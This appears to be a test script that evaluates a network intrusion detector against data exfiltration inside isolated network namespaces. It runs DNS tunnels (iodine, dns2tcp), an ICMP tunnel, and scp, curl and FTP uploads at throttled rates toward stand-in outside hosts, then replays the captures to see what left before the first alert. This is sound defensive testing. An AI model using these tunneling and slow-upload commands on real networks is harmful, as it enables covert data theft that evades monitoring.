#!/bin/bash
# eval-tunnel.sh: real tunnels and uploads between network namespaces at several rates, over background traffic,
# recorded and replayed: what had left when the first alert came. Root; missing Debian packages are installed.
# The table and the captures are left in build/eval-tunnel/. ONLY=PATTERN runs the scenarios that match.
set -eu
[ "$(id -u)" = 0 ] || { echo "eval-tunnel: needs root, for network namespaces"; exit 2; }
PATH=$PATH:/usr/sbin:/sbin
packages=
for need in iodine:iodine dns2tcpc:dns2tcp ptunnel:ptunnel vsftpd:vsftpd dnsmasq:dnsmasq-base curl:curl tcpdump:tcpdump sshd:openssh-server ip:iproute2 ping:iputils-ping; do
  command -v "${need%%:*}" >/dev/null || packages="$packages ${need#*:}"
done
[ -z "$packages" ] || apt-get install -y -q --no-install-recommends $packages
here=$(realpath "$(dirname "$0")") out=$(realpath -m build/eval-tunnel) dir=$(mktemp -d /tmp/tunnel.XXXXXX)
chmod 755 "$dir"
mkdir -p "$out"
rm -f "$out/table.json"
client=tun-client-$$ router=tun-router-$$ outside=tun-outside-$$
c() { ip netns exec $client "$@"; }
r() { ip netns exec $router "$@"; }
o() { ip netns exec $outside "$@"; }
back=
finish() {
  [ -z "$back" ] || kill $back 2>/dev/null || true
  for ns in $client $router $outside; do
    ip netns pids $ns 2>/dev/null | xargs -r kill -9 2>/dev/null || true
    ip netns del $ns 2>/dev/null || true
  done
  rm -rf "$dir" /etc/netns/$client
}
trap finish EXIT
trap "exit 1" INT TERM

for ns in $client $router $outside; do ip netns add $ns; ip -n $ns link set lo up; done
ip -n $client link add wire type veth peer name inner netns $router
ip -n $outside link add wire type veth peer name outer netns $router
ip -n $client addr add 10.88.0.2/24 dev wire
ip -n $client addr add 10.88.0.3/24 dev wire
ip -n $router addr add 10.88.0.1/24 dev inner
ip -n $router addr add 203.0.113.1/24 dev outer
for k in 10 11 12; do ip -n $outside addr add 203.0.113.$k/24 dev wire; done
for at in "$client wire" "$router inner" "$router outer" "$outside wire"; do
  set -- $at
  ip -n $1 link set $2 up
  ip netns exec $1 ethtool -K $2 tso off gso off gro off tx off >/dev/null 2>&1 || ip -n $1 link set $2 gso_max_segs 1 gso_max_size 1514
done
ip -n $client route add default via 10.88.0.1
ip -n $outside route add default via 203.0.113.1
r sysctl -qw net.ipv4.ip_forward=1

# Outside: a web server and the far ends of the tunnels. Inside: a resolver.
mkdir -p "$dir/www" "$dir/ftp" /run/sshd /var/run/vsftpd/empty
head -c 20000 /dev/urandom >"$dir/www/page"
head -c 260000000 /dev/urandom >"$dir/big"
(cd "$dir/www" && exec ip netns exec $outside python3 -m http.server 80 --bind 203.0.113.11) >/dev/null 2>&1 &
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=vendor.example -keyout "$dir/key.pem" -out "$dir/cert.pem" 2>/dev/null
mkdir -p /etc/netns/$client "$dir/files"
echo nameserver 10.88.0.1 >/etc/netns/$client/resolv.conf
for port in 443 8081; do o python3 "$here/elephants_http.py" "$dir" $port 203.0.113.12 >/dev/null 2>&1 & done
o python3 "$here/tunnel_send.py" sink 7000 &
r dnsmasq -k -C /dev/null --no-resolv --no-hosts --cache-size=1000 --server=/tunnel.example.org/203.0.113.10 \
  --server=/relay.example.net/203.0.113.10#54 --address=/hospital.example/203.0.113.11 --address=/vendor.example/203.0.113.12 >/dev/null 2>&1 &
ssh-keygen -q -t ed25519 -N '' -f "$dir/host"
ssh-keygen -q -t ed25519 -N '' -f "$dir/user"
o "$(command -v sshd)" -D -e -f /dev/null -h "$dir/host" -p 22 -o ListenAddress=203.0.113.12 -o StrictModes=no -o PermitRootLogin=yes \
  -o AuthorizedKeysFile="$dir/user.pub" -o UsePAM=no -o "Subsystem=sftp internal-sftp" 2>/dev/null &
printf '%s\n' listen=YES listen_address=203.0.113.12 anonymous_enable=YES anon_upload_enable=YES write_enable=YES anon_umask=022 \
  no_anon_password=YES anon_root="$dir/ftp" seccomp_sandbox=NO background=NO pasv_address=203.0.113.12 >"$dir/vsftpd.conf"
mkdir -p "$dir/ftp/in" && chmod 777 "$dir/ftp/in"
o vsftpd "$dir/vsftpd.conf" >/dev/null 2>&1 &
# On a busy machine they take seconds to listen.
for url in https://203.0.113.12/ http://203.0.113.12:8081/ http://203.0.113.11/ ftp://203.0.113.12/; do
  for _ in $(seq 60); do ! c curl -s -k -m 2 -o /dev/null "$url" || break; sleep 0.5; done
done

# Background at a second address: a person who looks pages up, with pauses, and sometimes pings.
background() {
  pauses=(0.1 0.1 0.2 0.3 0.5 0.8 1 2 3 5 8)
  n=0
  while :; do
    n=$((n + 1))
    c curl -s -o /dev/null --interface 10.88.0.3 "http://page$((RANDOM % 17)).hospital.example/page" || true
    [ $((n % 5)) != 0 ] || c ping -q -c 2 -i 0.2 -I 10.88.0.3 203.0.113.11 >/dev/null || true
    sleep ${pauses[RANDOM % 11]}
  done
}

# scenario NAME COMMAND…: records the command and replays the recording; the command's last argument is the log
# of what was sent, - where the recording tells, none where nothing is.
scenario() {
  name=$1 log=${!#}
  case $name in ${ONLY:-*}) ;; *) return 0 ;; esac
  file=$(echo "$name" | tr -c 'a-zA-Z0-9\n' -)
  ip netns exec $router tcpdump -q -U -i inner -w "$out/$file.pcap" 2>/dev/null & dump=$!
  background & back=$!
  rm -f "$dir/log"
  sleep 3
  "${@:2:$#-2}" >"$out/$file.txt" 2>&1 || echo "$name: $2 failed, see $out/$file.txt"
  sleep 2
  kill $back $dump 2>/dev/null; wait $back $dump 2>/dev/null || true
  bin/brandmelder replay --alerts-only --output ndjson --out "$out/$file.ndjson" "$out/$file.pcap" 2>/dev/null
  python3 "$here/tunnel_leak.py" "$name" "$out/$file.ndjson" "$out/$file.pcap" "$log" "$out/table.json"
  [ "$(stat -c %s "$out/$file.pcap")" -lt 50000000 ] || rm -f "$out/$file.pcap"
}

send() { timeout 60 ip netns exec $client python3 "$here/tunnel_send.py" send "$@" "$dir/log"; }

# What is ended by its number is started without a function around it, which would be a process of its own.
# over_iodine TYPE BYTES RATE, over_dns2tcp TYPE BYTES RATE, over_ping BYTES RATE
over_iodine() {
  ip netns exec $outside iodined -f -c -P secret 10.99.0.1 tunnel.example.org & far=$!
  sleep 1
  : >"$dir/near"
  ip netns exec $client iodine -f -r -P secret -T "$1" 10.88.0.1 tunnel.example.org >"$dir/near" 2>&1 & near=$!
  for _ in $(seq 60); do grep -q "Connection setup complete" "$dir/near" && break; sleep 0.5; done
  send 10.99.0.1 7000 "$2" "$3"
  kill $near $far
}
over_dns2tcp() {
  printf '%s\n' listen=203.0.113.10 port=54 user=nobody chroot=/tmp domain=relay.example.net resources=drop:203.0.113.10:7000 >"$dir/dns2tcpd"
  ip netns exec $outside dns2tcpd -F -f "$dir/dns2tcpd" & far=$!
  sleep 1
  ip netns exec $client dns2tcpc -z relay.example.net -r drop -l 8001 -T "$1" 10.88.0.1 & near=$!
  sleep 2
  send 127.0.0.1 8001 "$2" "$3"
  kill $near $far
}
over_ping() {
  ip netns exec $outside ptunnel & far=$!
  sleep 1
  ip netns exec $client ptunnel -p 203.0.113.10 -lp 8002 -da 203.0.113.10 -dp 7000 & near=$!
  sleep 1
  send 127.0.0.1 8002 "$1" "$2"
  kill $near $far
}
with_scp() { c timeout 90 scp -q -l "$1" -i "$dir/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$dir/$2" root@203.0.113.12:"$dir/got"; }
with_curl() { c timeout 90 curl -s -S -k --limit-rate "$1" -T "$dir/$2" -o /dev/null "$3"; }
to_ftp() { c timeout 90 curl -s -S --limit-rate "$1" -T "$dir/$2" "ftp://anonymous:x@203.0.113.12/in/$RANDOM"; }

printf '%-26s%-40s%-33s%s\n' scenario sent 'until the first alert' alerts
scenario "background alone" sleep 20 none
for type in null txt cname; do scenario "iodine $type" over_iodine $type 100000 0 "$dir/log"; done
scenario "iodine 1000 B/s" over_iodine null 30000 1000 "$dir/log"
scenario "iodine 100 B/s" over_iodine null 6000 100 "$dir/log"
scenario "iodine 16 B/s" over_iodine null 1200 16 "$dir/log"
for type in TXT KEY; do scenario "dns2tcp $type" over_dns2tcp $type 100000 0 "$dir/log"; done
scenario "dns2tcp 1000 B/s" over_dns2tcp TXT 30000 1000 "$dir/log"
scenario "dns2tcp 100 B/s" over_dns2tcp TXT 6000 100 "$dir/log"
scenario "dns2tcp 16 B/s" over_dns2tcp TXT 1200 16 "$dir/log"
scenario "ptunnel" over_ping 1000000 0 "$dir/log"
scenario "ptunnel 1000 B/s" over_ping 30000 1000 "$dir/log"
scenario "ptunnel 100 B/s" over_ping 6000 100 "$dir/log"
scenario "ptunnel 16 B/s" over_ping 1200 16 "$dir/log"
head -c 60000000 "$dir/big" >"$dir/small"
scenario "scp" with_scp 8000000 big -
scenario "scp 8 MB/s" with_scp 64000 big -
scenario "curl https" with_curl 1G big https://vendor.example/x -
scenario "curl https 8 MB/s" with_curl 8M big https://vendor.example/x -
scenario "curl http 8 MB/s" with_curl 8M big http://203.0.113.12:8081/x -
scenario "ftp" to_ftp 1G big -
scenario "ftp 8 MB/s" to_ftp 8M big -
scenario "ftp 60 MB" to_ftp 1G small -
